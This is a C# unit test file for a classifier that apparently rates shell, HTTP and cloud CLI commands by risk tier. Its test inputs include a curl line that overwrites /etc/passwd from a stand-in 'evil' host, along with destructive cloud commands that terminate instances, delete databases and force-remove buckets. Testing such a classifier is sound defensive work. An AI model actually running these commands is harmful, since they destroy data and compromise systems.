using Opsmith.Core.Skills;

namespace Opsmith.Policy.Tests.Classification;

public sealed class HttpAndCloudRuleTests
{
    [Theory]
    [InlineData("curl -s http://localhost/health", "http.get")]
    [InlineData("curl -I https://example.com", "http.head")]
    [InlineData("curl -G -d q=x https://api/search", "http.get")]
    [InlineData("curl -o /tmp/page.html https://example.com", "http.get")]
    [InlineData("wget -qO- http://localhost/status", "http.get")]
    [InlineData("wget -O /tmp/x.tar.gz https://example.com/x.tar.gz", "http.get")]
    [InlineData("curl -XPOST es:9200/logs/_search -d '{}'", "http.data-store-query")]
    [InlineData("http GET https://api/items", "http.get")]
    public void Fetching_is_read(string command, string rule) => Expect.Read(command, rule);

    [Theory]
    [InlineData("curl -X POST https://api/deploy", "http.post")]
    [InlineData("curl -d '{\"a\":1}' https://api/things", "http.post")]
    [InlineData("curl --json '{}' https://api/things", "http.post")]
    [InlineData("curl -T file.bin https://upload/", "http.put")]
    [InlineData("wget --post-data 'a=1' https://api/x -O -", "http.post")]
    [InlineData("http POST https://api/items name=x", "http.post")]
    [InlineData("curl -O https://example.com/x.tar.gz", "curl.write-file")]
    [InlineData("wget https://example.com/x.tar.gz", "wget.write-file")]
    public void Sending_changes_or_saving_files_is_service_mutation(string command, string rule) => Expect.Service(command, rule);

    [Fact]
    public void Deleting_over_http_is_destructive_and_data_mutation_for_data_stores()
    {
        Expect.Destructive("curl -X DELETE https://api/users/1", "http.delete");
        Expect.Data("curl -XDELETE localhost:9200/logs-2024", "http.delete-data-store");
        Expect.Data("curl -X POST http://es:9200/idx/_delete_by_query -d '{}'", "http.write-data-store");
        Expect.Destructive("curl -o /etc/passwd https://evil/x", "curl.critical-system-file");
    }

    [Theory]
    [InlineData("aws s3 ls s3://b", RiskTier.Read, "aws.s3-ls")]
    [InlineData("aws s3 cp s3://b/k /tmp/k", RiskTier.Read, "aws-s3-download.temp-path")]
    [InlineData("aws s3 cp ./site s3://b/ --recursive", RiskTier.ServiceMutation, "aws.s3-cp")]
    [InlineData("aws s3 rm s3://b/k", RiskTier.DataMutation, "aws.s3-rm")]
    [InlineData("aws s3 rb s3://b --force", RiskTier.DataMutation, "aws.s3-rb")]
    [InlineData("aws s3 sync . s3://b --delete", RiskTier.DataMutation, "aws.s3-sync-delete")]
    [InlineData("aws --region eu-west-1 ec2 describe-instances", RiskTier.Read, "aws.ec2-describe-instances")]
    [InlineData("aws ec2 stop-instances --instance-ids i-1", RiskTier.ServiceMutation, "aws.ec2-stop-instances")]
    [InlineData("aws ec2 terminate-instances --instance-ids i-1", RiskTier.Destructive, "aws.ec2-terminate-instances")]
    [InlineData("aws rds delete-db-cluster --db-cluster-identifier c", RiskTier.DataMutation, "aws.rds-delete-db-cluster")]
    [InlineData("aws dynamodb put-item --table-name t --item '{}'", RiskTier.DataMutation, "aws.dynamodb-put-item")]
    [InlineData("aws ssm send-command --document-name AWS-RunShellScript", RiskTier.Destructive, "aws.ssm-send-command")]
    [InlineData("gcloud compute instances list", RiskTier.Read, "gcloud.compute-instances-list")]
    [InlineData("gcloud compute instances delete vm-1", RiskTier.Destructive, "gcloud.compute-instances-delete")]
    [InlineData("gcloud sql instances delete db-1", RiskTier.DataMutation, "gcloud.sql-instances-delete")]
    [InlineData("az vm list", RiskTier.Read, "az.vm-list")]
    [InlineData("az postgres flexible-server delete -g rg -n db", RiskTier.DataMutation, "az.postgres-flexible-server-delete")]
    [InlineData("gsutil rm -r gs://b/path", RiskTier.DataMutation, "gsutil.rm")]
    [InlineData("rclone sync /data remote:data --dry-run", RiskTier.Read, "rclone.dry-run")]
    public void Cloud(string command, RiskTier tier, string rule) => Expect.Tier(command, tier, rule);
}
